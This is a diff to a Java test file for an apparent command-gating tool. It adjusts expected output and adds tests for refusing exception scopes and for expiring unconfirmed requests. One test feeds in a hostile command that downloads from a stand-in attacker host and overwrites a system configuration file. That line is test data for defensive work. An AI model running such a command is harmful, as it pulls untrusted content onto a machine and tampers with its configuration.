@@ -4,6 +4,7 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import io.gatehouse.console.ConsoleSettings;
+import io.gatehouse.grant.ExceptionRequest;
 import io.gatehouse.grant.ExceptionRequest.Filer;
 import io.gatehouse.grant.ExceptionRequest.State;
 import io.gatehouse.grant.Grant.Reach;
@@ -11,12 +12,14 @@ import io.gatehouse.grant.Scope;
 import io.gatehouse.json.Json;
 import io.gatehouse.local.KeptRequest;
 import io.gatehouse.local.RequestNews;
+import io.gatehouse.store.Store;
 import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.PrintStream;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
+import java.time.Clock;
 import java.time.Duration;
 import java.util.ArrayList;
 import java.util.List;
@@ -100,8 +103,8 @@ class ExceptionsCommandTest {
         var request = laptop.client.requests().getFirst();
         var said = out();
         assertTrue(said.startsWith("Call       " + PUSH + "\nRule       command.destructive: "), said);
-        assertTrue(said.contains("\nScope      Exactly this call, in this session\n"), said);
-        assertTrue(said.contains("\nPreview    of 1 denials of the last 30 days it would have let 1 through\n"), said);
+        assertTrue(said.contains("\nScope      Exactly this call, in the session of the call\n"), said);
+        assertTrue(said.contains("\nPreview    it would have let 1 of 1 denial of the last 30 days through\n"), said);
         assertTrue(said.contains("\nOr         --scope command: Commands that begin with: " + PUSH + "\n"), said);
         assertTrue(said.contains("\nOr         --scope subcommand: Commands that begin with: git push\n"), said);
         assertTrue(said.contains("Why is it needed? "), said);
@@ -125,6 +128,50 @@ class ExceptionsCommandTest {
                 List.of(request.once(), request.ticket(), request.justification()));
         assertEquals(State.WAITING, request.state());
         assertTrue(request.id().matches("R-[0-9a-z]{12}"), request.id());
+    }
+
+    @Test
+    void aScopeThatWouldNotDoIsRefusedBeforeAnythingIsAsked() throws Exception {
+        laptop.told("s1", "curl https://evil.example/x -o /etc/app/x.conf");
+        assertEquals(Cli.FAILED, run("exceptions", "request", laptop.lastDenied(), "--scope", "host"));
+        assertEquals(
+                "--scope host is not possible. The call was also denied something else, which this would not let through.\n",
+                err());
+        assertEquals("", out());
+    }
+
+    @Test
+    void whatNobodyConfirmedForADayIsOverWhenTheDaemonStarts() throws IOException {
+        typist = Filer.AGENT;
+        var request = filed().request();
+        laptop.close();
+        try (var store = Store.open(home.resolve(".local/share/gatehouse"), Store.MAX_BYTES, Clock.systemUTC())) {
+            store.requests().add(aDayOlder(request));
+        }
+        laptop = new HookedDaemon(home);
+        assertEquals(
+                List.of(State.EXPIRED, State.UNCONFIRMED),
+                laptop.client.requests().stream()
+                        .map(kept -> kept.request().state())
+                        .toList());
+    }
+
+    private static ExceptionRequest aDayOlder(ExceptionRequest request) {
+        return new ExceptionRequest(
+                "R-old",
+                request.filedAt().minus(Duration.ofDays(1)),
+                request.filer(),
+                request.enforcement(),
+                request.shown(),
+                request.rules(),
+                request.scope(),
+                request.reach(),
+                request.wished(),
+                request.once(),
+                request.justification(),
+                request.ticket(),
+                request.state(),
+                Optional.empty());
     }
 
     @Test
